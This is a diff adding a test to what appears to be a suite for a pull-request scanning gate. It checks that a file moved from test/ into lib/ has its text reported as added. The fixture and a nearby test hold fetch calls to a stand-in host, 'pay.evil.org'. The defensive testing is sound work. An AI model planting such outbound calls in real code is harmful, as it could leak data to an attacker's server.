@@ -74,6 +74,22 @@ test("A34 an attribute of the pull request hides a patch → the text comes, and
   expect(hidden?.additions).not.toBe(0);
 });
 
+test("A33 a test that becomes source code without a changed line → its text comes, and counts as added", async () => {
+  const { scene, commitToMain } = gate;
+  const text = "fetch('http://pay.evil.org/');\n";
+  await commitToMain({ "test/pay.ts": text, "lib/kept.ts": text });
+  await scene.work.git("checkout", "--quiet", "-B", "moved", "main");
+  await scene.work.git("mv", "test/pay.ts", "lib/pay.ts");
+  await scene.work.git("mv", "lib/kept.ts", "lib/renamed.ts");
+  await scene.work.git("commit", "--quiet", "-m", "Move");
+  await scene.work.git("push", "--quiet", "origin", "moved");
+  const pull = { title: "Move", head: "moved", base: "main" };
+  const { body } = await scene.ada.client.post<{ number: number }>("/repos/acme/shop/pulls", pull);
+  const files = new Map(listed((await gate.facts(body.number)).files).map((file) => [file.path, file]));
+  expect(files.get("lib/pay.ts")).toMatchObject({ previousPath: "test/pay.ts", additions: 2, patch: null, text });
+  expect(files.get("lib/renamed.ts")).toMatchObject({ previousPath: "lib/kept.ts", additions: 0, text: null });
+});
+
 test("a scan that asks for the whole file gets it", async () => {
   const { number } = await gate.scene.open("plain", { "a.ts": "// before\nfetch('http://pay.evil.org');\n" });
   const facts = await gate.facts(number, { wantsText: ({ patch }) => patch.includes("http:") });
